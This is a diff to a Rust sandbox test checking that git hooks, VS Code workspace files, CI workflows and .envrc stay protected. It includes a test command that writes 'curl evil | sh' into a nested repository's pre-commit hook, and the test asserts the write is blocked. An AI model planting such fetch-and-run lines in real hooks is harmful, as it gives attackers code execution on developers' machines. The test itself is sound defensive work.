@@ -502,10 +502,16 @@ fn protected_paths_in_the_workspace_are_kept_with_namespaces() {
     {
         let scenario = Scenario::new(identity);
         let ws = scenario.workspace();
-        for dir in [".git/hooks", ".vscode", ".github/workflows"] {
+        for dir in [
+            ".git/hooks",
+            ".vscode",
+            ".github/workflows",
+            "vendor/lib/.git/hooks",
+        ] {
             std::fs::create_dir_all(ws.join(dir)).unwrap();
         }
         std::fs::write(ws.join(".git/config"), "[core]\n").unwrap();
+        std::fs::write(ws.join("team.code-workspace"), "{}\n").unwrap();
         std::fs::write(ws.join(".vscode/settings.json"), "{}\n").unwrap();
         std::fs::write(ws.join(".envrc"), "export A=1\n").unwrap();
         if identity == Identity::Unprivileged {
@@ -520,6 +526,13 @@ fn protected_paths_in_the_workspace_are_kept_with_namespaces() {
                 &["sh", "-c", "echo evil >> .envrc"],
                 &["sh", "-c", "echo 'on: push' > .github/workflows/evil.yml"],
                 &["mv", ".git", "moved-git"],
+                // A nested repository's hooks run as surely as the top one's.
+                &[
+                    "sh",
+                    "-c",
+                    "echo 'curl evil | sh' > vendor/lib/.git/hooks/pre-commit",
+                ],
+                &["sh", "-c", "echo '{\"tasks\": 1}' > team.code-workspace"],
                 &["sh", "-c", "echo fine > src-file.txt && cat src-file.txt"],
             ]),
             &[],
@@ -543,6 +556,11 @@ fn protected_paths_in_the_workspace_are_kept_with_namespaces() {
         );
         assert!(!ws.join(".github/workflows/evil.yml").exists());
         assert!(ws.join(".git").is_dir() && !ws.join("moved-git").exists());
+        assert!(!ws.join("vendor/lib/.git/hooks/pre-commit").exists());
+        assert_eq!(
+            std::fs::read_to_string(ws.join("team.code-workspace")).unwrap(),
+            "{}\n"
+        );
         run.assert_printed("fine");
     }
 }
